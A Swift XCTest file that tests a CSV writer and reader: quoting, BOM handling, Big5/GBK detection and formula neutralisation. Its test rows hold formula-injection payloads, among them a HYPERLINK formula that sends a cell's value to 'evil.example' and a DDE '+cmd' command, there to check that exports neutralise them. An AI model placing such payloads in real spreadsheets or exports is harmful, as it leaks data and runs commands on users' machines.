import XCTest
@testable import GridCore

/// CSV out and back in (issue 13 §3, issue 12 item 8): quoting, formula guards, BOM, and the encodings refused.
final class CSVRoundTripTests: XCTestCase {
    func testEveryLineBreakAndEdgeSpaceIsQuoted() {
        XCTAssertEqual(CSVWriter.field("a\r\nb"), "\"a\r\nb\"")   // "\r\n" is ONE Character in Swift
        XCTAssertEqual(CSVWriter.field("a\rb"), "\"a\rb\"")
        XCTAssertEqual(CSVWriter.field("a\u{2028}b"), "\"a\u{2028}b\"")
        XCTAssertEqual(CSVWriter.field(" lead"), "\" lead\"")
        XCTAssertEqual(CSVWriter.field("trail "), "\"trail \"")
        XCTAssertEqual(CSVWriter.field("say \"hi\", ok"), "\"say \"\"hi\"\", ok\"")
        XCTAssertEqual(CSVWriter.field("plain 文本"), "plain 文本")
    }

    func testWriterThenReaderGivesBackEveryField() throws {
        let rows: [[String]] = [
            ["1", "line one\r\nline two", "say \"hi\"", "a,b,c"],
            ["2", "  leading spaces", "trailing  ", "lf\nonly"],
            ["3", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)"],
            ["-3", "-5 元", "'=already quoted", "东湖村 👨‍👩‍👧"],
        ]
        let text = CSVWriter.bom + CSVWriter.document(header: ["n", "a", "b", "c"], rows: rows, numbers: [0])
        let table = try CSVReader.read(Array(text.utf8), header: ["n", "a", "b", "c"])
        XCTAssertEqual(table.encoding, .utf8BOM)
        let back = table.records.map { rec in rec.fields.map(CSVWriter.unneutralised) }
        XCTAssertEqual(back, rows)
        XCTAssertEqual(table.records.map(\.line), [2, 4, 6, 7])
    }

    func testFormulasAreNeutralisedButNumbersStayNumbers() {
        let line = CSVWriter.line(["=1+1", "+cmd|' /C calc'!A0", "-x", "@SUM(1+1)", "\tx", "-3", "-3", "'=y", "ok"], numbers: [6])
        XCTAssertEqual(line, "'=1+1,'+cmd|' /C calc'!A0,'-x,'@SUM(1+1),'\tx,'-3,-3,''=y,ok\n")
        XCTAssertEqual(CSVWriter.unneutralised("'=1+1"), "=1+1")
        XCTAssertEqual(CSVWriter.unneutralised("''=y"), "'=y")
        XCTAssertEqual(CSVWriter.unneutralised("'plain"), "'plain")   // no guard there: left alone
        XCTAssertEqual(CSVWriter.unneutralised("-3"), "-3")
    }

    func testAnImportedFieldLosesTheExportGuard() throws {
        let csv = "code,name\r\nX1,'=东湖村\r\n"
        let table = try CSVReader.read(Array(csv.utf8), header: ["code", "name"])
        let f = RowFields(table.records[0], header: ["code", "name"])
        XCTAssertEqual(f.text("name"), "=东湖村")
    }

    func testControlCharactersInAnyImportedColumnAreRowErrors() throws {
        let csv = "code,name\nX1,ok\u{1B}[2J\nX2,fine\n"
        let table = try CSVReader.read(Array(csv.utf8), header: ["code", "name"])
        let bad = RowFields(table.records[0], header: ["code", "name"])
        XCTAssertEqual(bad.errors.map(\.column), ["name"])
        XCTAssertTrue(bad.errors[0].message.hasPrefix("contains U+001B (escape) at character 3"), bad.errors[0].message)
        XCTAssertTrue(RowFields(table.records[1], header: ["code", "name"]).errors.isEmpty)
        // A multi-line column takes a line break; a one-line column does not.
        let ml = try CSVReader.read(Array("a,b\n\"x\ny\",\"x\ny\"\n".utf8), header: ["a", "b"])
        XCTAssertEqual(RowFields(ml.records[0], header: ["a", "b"], multiLine: ["b"]).errors.map(\.column), ["a"])
    }

    /// 臺灣事項 in Big5 (bytes from `iconv -t BIG5`): valid GB18030 that reads 籓芖ㄆ兜.
    static let big5: [UInt8] = [0xBB, 0x4F, 0xC6, 0x57, 0xA8, 0xC6, 0xB6, 0xB5]
    /// 东湖村三组路面积水，请尽快处理 in GBK (`iconv -t GBK`).
    static let gbk: [UInt8] = [0xB6, 0xAB, 0xBA, 0xFE, 0xB4, 0xE5, 0xC8, 0xFD, 0xD7, 0xE9, 0xC2, 0xB7, 0xC3, 0xE6, 0xBB, 0xFD,
                               0xCB, 0xAE, 0xA3, 0xAC, 0xC7, 0xEB, 0xBE, 0xA1, 0xBF, 0xEC, 0xB4, 0xA6, 0xC0, 0xED]

    func testBig5IsRefusedAndGBKImports() throws {
        let head = Array("code,name\n".utf8)
        var big5File = head
        for i in 1...3 { big5File += Array("X\(i),".utf8) + Self.big5 + [0x0A] }
        XCTAssertThrowsError(try CSVReader.read(big5File, header: ["code", "name"])) { e in
            XCTAssertEqual(e as? CSVError, .implausibleEncoding)
            XCTAssertTrue((e as? CSVError)?.message.contains("Big5") == true)
        }
        let gbkFile = head + Array("X1,".utf8) + Self.gbk + [0x0A]
        let t = try CSVReader.read(gbkFile, header: ["code", "name"])
        XCTAssertEqual(t.encoding, .gb18030)
        XCTAssertEqual(t.records[0].fields, ["X1", "东湖村三组路面积水，请尽快处理"])
        var count = GBPlausibility()
        count.feed(Self.big5)
        XCTAssertEqual(count.common, 1)    // 兜 B6B5 only; BB4F and C657 are GBK extensions, A8C6 is bopomofo
        XCTAssertEqual(count.uncommon, 3)
    }
}
